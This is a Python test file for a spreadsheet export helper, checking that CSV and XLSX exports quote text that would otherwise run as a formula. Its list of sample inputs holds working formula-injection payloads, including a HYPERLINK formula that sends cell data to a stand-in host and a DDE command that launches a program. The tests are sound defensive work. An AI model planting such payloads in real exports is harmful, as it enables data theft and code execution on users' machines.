"""The one export helper: no cell of ours can run as a formula."""

import csv
import io

from openpyxl import load_workbook

from scrutiny.exports import export_file, safe_cell

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Open")',
    "+SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def test_text_that_would_run_is_quoted():
    for text in HOSTILE:
        assert safe_cell(text) == "'" + text


def test_numbers_stay_numbers():
    assert safe_cell(-3.5) == -3.5
    assert safe_cell(0) == 0
    assert safe_cell(None) is None
    assert safe_cell("-3.5") == "-3.5"  # a plain negative figure as text is not a formula
    assert safe_cell("+2%") == "+2%"
    assert safe_cell("-1,234.5") == "-1,234.5"
    assert safe_cell("Re-referrals (12 months)") == "Re-referrals (12 months)"


def test_xlsx_has_no_live_formula_and_csv_is_quoted():
    rows = [[text, -4.0] for text in HOSTILE]
    content, content_type = export_file(["name", "value"], rows, "xlsx", "values")
    assert content_type.startswith("application/vnd.openxmlformats")
    sheet = load_workbook(io.BytesIO(content)).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert all(cell.data_type in ("s", "n") for cell in cells)
    assert [c.value for c in cells if c.data_type == "n"] == [-4.0] * len(HOSTILE)
    assert all(c.value.startswith("'") for c in cells if c.data_type == "s")
    text = export_file(["name", "value"], rows, "csv")[0].decode()
    read = list(csv.reader(io.StringIO(text)))[1:]
    assert [row[0] for row in read] == ["'" + t for t in HOSTILE]
    assert [row[1] for row in read] == ["-4.0"] * len(HOSTILE)
